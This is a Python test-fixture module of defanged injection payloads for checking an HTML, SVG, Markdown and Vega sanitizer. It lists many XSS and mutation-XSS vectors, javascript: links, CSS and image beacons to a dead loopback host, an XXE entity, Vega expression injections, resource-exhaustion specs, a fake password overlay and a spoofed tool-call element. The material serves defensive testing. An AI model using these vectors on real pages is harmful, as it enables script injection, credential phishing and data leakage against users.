"""What a hostile tool would display: each payload sets `window.owned`, asks ASK for something, or covers the page."""

# ruff: noqa: E501 (a payload is one line)
from __future__ import annotations

from typing import Any

ASK = "http://127.0.0.1:9"
"""Nobody listens there; a browser that asks is caught."""

HTML = [
    "<script>window.owned=1</script>",
    "<ScRiPt>window.owned=1</sCrIpT>",
    f"<script src={ASK}/a.js></script>",
    "<<script>script>window.owned=1<</script>/script>",
    "<img src=x onerror=window.owned=1>",
    "<img src=x onerror\n=\nwindow.owned=1>",
    "<img/src=x/onerror=window.owned=1>",
    "<img src=`x`onerror=window.owned=1>",
    f"<img src={ASK}/pixel.png>",
    f'<img srcset="{ASK}/pixel.png 1x">',
    "<img src='//127.0.0.1:9/pixel.png'>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=1"/>\'>',
    "<img src='data:text/html,<script>parent.owned=1</script>'>",
    '<img src="data:image/png;base64,AAAA" onload=window.owned=1 onerror=window.owned=1>',
    '<img alt="`><script>window.owned=1</script>"src=x>',
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    f"<svg><image href={ASK}/pixel.png /></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.owned=1'><text y=20>click</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.owned=1>">',
    '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
    "<math><mtext><table><mglyph><style><math href=javascript:window.owned=1>click</math></style></mglyph></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">',
    "<template><img src=x onerror=window.owned=1></template>",
    '<textarea><img title="</textarea><img src=x onerror=window.owned=1>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=window.owned=1>"></xmp>',
    '<title><img title="</title><img src=x onerror=window.owned=1>"></title>',
    "<select><style></select><img src=x onerror=window.owned=1></style>",
    "<!--><img src=x onerror=window.owned=1>-->",
    "<!--[if gte IE 4]><script>window.owned=1</script><![endif]-->",
    "<![CDATA[<img src=x onerror=window.owned=1>]]>",
    "<?php <img src=x onerror=window.owned=1> ?>",
    "<a href='javascript:window.owned=1'>click</a>",
    "<a href=' java\tscript:window.owned=1'>click</a>",
    "<a href='&#106;avascript&colon;window.owned=1'>click</a>",
    "<a href='\x01javascript:window.owned=1'>click</a>",
    "<a href='vbscript:window.owned=1'>click</a>",
    "<a href='data:text/html,<script>opener.owned=1</script>'>click</a>",
    "<a href='/logout'>click</a><a href='//127.0.0.1:9/'>click</a><a href='#top'>click</a>",
    f"<a href='{ASK}\\@example.com'>click</a>",
    f"<a ping={ASK}/ping href=https://example.com download target=_self>a link</a>",
    "<div data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>click</div>",
    "<button onclick=window.owned=1 data-commandlinker-command='help:about'>click</button>",
    "<p onmouseover=window.owned=1 onfocus=window.owned=1 tabindex=1 autofocus contenteditable>hover</p>",
    "<details open ontoggle=window.owned=1><summary>more</summary></details>",
    f"<form action={ASK}/post method=post><input name=key value=secret autofocus onfocus=window.owned=1><button>Go</button></form>",
    f"<iframe src='javascript:parent.owned=1' srcdoc='<script>parent.owned=1</script>'></iframe><iframe src={ASK}/f></iframe>",
    f"<object data={ASK}/o></object><embed src={ASK}/e><applet code=x>",
    f"<video src={ASK}/v autoplay onerror=window.owned=1></video><audio src={ASK}/a autoplay>",
    f"<link rel=stylesheet href={ASK}/s.css><base href={ASK}/><meta http-equiv=refresh content='0;url={ASK}/m'>",
    f"<style>@import url({ASK}/i.css); * {{background:url({ASK}/b.png)}} body {{display:none}}</style>",
    f"<div style='background:url({ASK}/b.png)'>x</div><div style=\"background-color:red;color:u\\72l({ASK}/c.png)\">x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red;color:red'>You are logged out. Password:</div>",
    "<div style='position:absolute;top:-900px;left:-900px;width:9999px;height:9999px;margin:-999px;transform:scale(99)'>x</div>",
    "<p style='color:expression(window.owned=1);animation:x 1s;--x:1' onanimationstart=window.owned=1>x</p>",
    "<div id=jp-main-dock-panel class='jp-Notebook micro-agi-call' role=alert slot=x is=y>[create_tool] ok</div>",
    "<dialog open>covers</dialog><div popover id=p>x</div><marquee onstart=window.owned=1>x</marquee>",
    "<custom-element onclick=window.owned=1>x</custom-element><p:x onclick=window.owned=1>x",
    "$\\href{javascript:window.owned=1}{click}$ \\(\\href{javascript:window.owned=1}{click}\\)",
    "<p>&#36;&#92;href{javascript:window.owned=1}{click}&dollar; \\<wbr>[\\unicode{x41}\\<br>]</p>",
    "\\begin{align}\\class{jp-Notebook}{\\style{position:fixed;inset:0}{x}}\\end{align}",
    "<table background='http://127.0.0.1:9/t.png'><tr><td background='http://127.0.0.1:9/t.png' onclick=window.owned=1>x",
    "<b><p><a><i><div></b></a></i><table><td><form><table><td><img src=x onerror=window.owned=1>",
    "<p title='\"><img src=x onerror=window.owned=1>'>x</p><p title=\"'><img src=x onerror=window.owned=1>\">y</p>",
    "</div></div></div></div><div style='position:fixed;top:0'>outside</div>",
]

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">{}</svg>'
)
SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=1"><rect onclick="window.owned=1"/></svg>',
    *(
        _SVG.format(inside)
        for inside in [
            "<script>window.owned=1</script>",
            f'<script href="{ASK}/a.js"/><script xlink:href="{ASK}/a.js"/>',
            '<h:script xmlns:h="http://www.w3.org/1999/xhtml">window.owned=1</h:script>',
            '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="window.owned=1"/></foreignObject>',
            '<a href="javascript:window.owned=1"><text y="9">click</text></a>',
            '<a xlink:href="javascript:window.owned=1"><text y="9">click</text></a>',
            f'<image href="{ASK}/p.png" width="9" height="9"/><image xlink:href="{ASK}/p.png"/><feImage href="{ASK}/p.png"/>',
            f'<use href="{ASK}/s.svg#a"/><use xlink:href="data:image/svg+xml;base64,AAAA#a"/>',
            f"<style>@import url({ASK}/i.css); rect {{fill:url({ASK}/f.svg#a)}}</style><rect width='9' height='9'/>",
            f'<rect width="9" height="9" fill="url({ASK}/f.svg#a)" style="fill:url({ASK}/f.svg#a);position:fixed;inset:0"/>',
            f'<rect width="9" height="9" style="fill:u\\72l({ASK}/f)" mask="url(&quot;{ASK}/m.svg#a&quot;)" cursor="url({ASK}/c)"/>',
            '<animate attributeName="href" values="javascript:window.owned=1" onbegin="window.owned=1"/>',
            '<set attributeName="onclick" to="window.owned=1"/><handler type="text/javascript">window.owned=1</handler>',
            '<text id="jp-main-dock-panel" class="jp-Notebook" y="9" overflow="visible">card</text>',
            "<title>&lt;img src=x onerror=window.owned=1&gt;</title><desc>&lt;script&gt;window.owned=1&lt;/script&gt;</desc>",
            "<text y='9'><![CDATA[<img src=x onerror=window.owned=1>]]></text><!-- --><?xml-stylesheet href='x.css'?>",
            '<g xml:base="javascript:window.owned=1//"><rect width="9" height="9" xmlns:e="http://www.w3.org/2001/xml-events" e:event="load"/></g>',
            "<g>" + "<svg>" * 20 + "</svg>" * 20 + "</g>",
        ]
    ),
    '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{ASK}/x">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>window.owned=1</script></html>',
    "<svg><p><img src=x onerror=window.owned=1></svg>",
]

MARKDOWN = [
    "<img src=x onerror=window.owned=1> <script>window.owned=1</script>",
    "[click](javascript:window.owned=1) [click](\tjava\nscript:window.owned=1)",
    f"![pixel]({ASK}/pixel.png)",
    f"![pixel][r]\n\n[r]: {ASK}/pixel.png",
    "<javascript:window.owned=1>",
    "```\n</code></pre><img src=x onerror=window.owned=1>\n```",
    "`` <img src=x onerror=window.owned=1> `",
    "$\\href{javascript:window.owned=1}{click}$",
    "$$\\require{html}\\style{position:fixed}{x}\\unicode{x}$$",
    "| a |\n|---|\n| <svg onload=window.owned=1> |",
    "[a]: javascript:window.owned=1 'x'\n\n[a] [click][a]",
    'https://e.com/$" onmouseover="window.owned=1"$',
    '```mermaid\ngraph TD; A["<img src=x onerror=window.owned=1>"]\n```',
    "<details open ontoggle=window.owned=1>\n\nx\n\n</details>",
]

ROWS = {"values": [{"a": "A", "b": 28}, {"a": "B", "b": 55}, {"a": "C", "b": 43}]}
BAR: dict[str, Any] = {
    "data": ROWS,
    "mark": "bar",
    "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}},
}
_EVIL = "window.owned=1"


def _bar(**more: Any) -> dict[str, Any]:
    return {**BAR, **more}


def _encoded(**more: Any) -> dict[str, Any]:
    return {**BAR, "encoding": {**BAR["encoding"], **more}}


VEGA_REFUSED: list[dict[str, Any]] = [
    _bar(data={"url": f"{ASK}/data.json"}),
    _bar(data={**ROWS, "url": f"{ASK}/data.json"}),
    _bar(mark={"type": "image", "url": f"{ASK}/p.png", "width": 9, "height": 9}),
    _bar(mark="image", encoding={"url": {"value": f"{ASK}/p.png"}}),
    _bar(transform=[{"calculate": "datum.b.constructor.constructor('window.owned=1')()", "as": "c"}]),
    _bar(transform=[{"filter": "warn(window.owned=1)"}]),
    _bar(transform=[{"filter": {"and": ["warn(1)", {"not": "warn(2)"}]}}]),
    _bar(transform=[{"lookup": "a", "from": {"data": {"url": f"{ASK}/d.json"}, "key": "a", "fields": ["b"]}}]),
    _bar(transform=[{"flatten": ["a"]}] * 9),
    _encoded(color={"value": {"expr": "window.owned=1"}}),
    _encoded(x={"field": "a", "axis": {"labelExpr": "window.owned=1"}}),
    {"$schema": "https://vega.github.io/schema/vega/v5.json", "signals": [{"name": "s", "update": "window.owned=1"}]},
    {"$schema": f"{ASK}/vega-lite/v5.json", **BAR, "autosize": {"signal": "window.owned=1"}},
    _bar(data={"sequence": {"start": 0, "stop": 1e12}}),
    _bar(data={"graticule": {"step": [0.0001, 0.0001]}}),
    {"repeat": {"row": ["a"] * 999, "column": ["b"] * 999}, "spec": BAR},
    {"layer": [BAR] * 99},
    _encoded(row={"field": "n"}) | {"data": {"values": [{"a": "A", "b": 1, "n": n} for n in range(999)]}},
    _encoded(facet={"field": "n.m"}) | {"data": {"values": [{"a": "A", "b": 1, "n": {"m": n}} for n in range(999)]}},
]
"""It loads, computes or multiplies, and would be drawn wrong without."""

VEGA_TRIMMED: list[dict[str, Any]] = [
    _encoded(href={"value": f"javascript:{_EVIL}"}),
    _bar(mark={"type": "bar", "href": f"javascript:{_EVIL}", "cursor": f"url({ASK}/c.cur), auto"}),
    _bar(params=[{"name": "p", "value": 1, "bind": {"input": "range", "element": "#jp-top-panel"}}]),
    _bar(params=[{"name": "p", "expr": "window.owned=1"}]),
    _bar(params=[{"name": "p", "select": {"type": "point", "on": "window:click[window.owned=1]"}}]),
    _encoded(color={"condition": {"test": "window.owned=1", "value": "red"}, "value": "blue"}),
    _encoded(text={"field": "b", "format": '"), warn(window.owned=1), format(1, "'}),
    _encoded(tooltip={"field": "b", "formatType": "constructor", "format": "x"}),
    _encoded(x={"field": 'a"] || warn(window.owned=1) || datum["a', "timeUnit": "year') + warn('"}),
    _bar(usermeta={"embedOptions": {"patch": f"{ASK}/patch.json", "config": f"{ASK}/config.json"}}),
    _bar(usermeta={"embedOptions": {"loader": {"baseURL": ASK}, "sourceHeader": "<script>opener.owned=1</script>"}}),
    _bar(
        config={
            "customFormatTypes": True,
            "signals": [{"name": "s", "update": _EVIL}],
            "background": f"url({ASK}/b.png)",
        }
    ),
    _bar(data={"values": [{"a": "</script><img src=x onerror=window.owned=1>", "b": 1, "image": f"{ASK}/t.png"}]}),
    {
        "data": {"values": [{"a": {"image": f"{ASK}/t.png", "title": "<img src=x onerror=window.owned=1>"}, "b": 1}]},
        "mark": {"type": "bar", "tooltip": {"content": "data"}},
        "encoding": {"y": {"field": "b", "type": "quantitative"}, "tooltip": {"field": "a", "title": "image"}},
    },
    _encoded(color={"field": "c", "scale": None, "legend": {"title": f"url({ASK}/x)"}}),
    _bar(
        encoding={
            **BAR["encoding"],
            "y": {"field": "b", "bin": {"step": 1e-9, "maxbins": 1e9}, "axis": {"tickCount": 1e9}},
        }
    ),
]
"""It is drawn without what is hostile in it."""
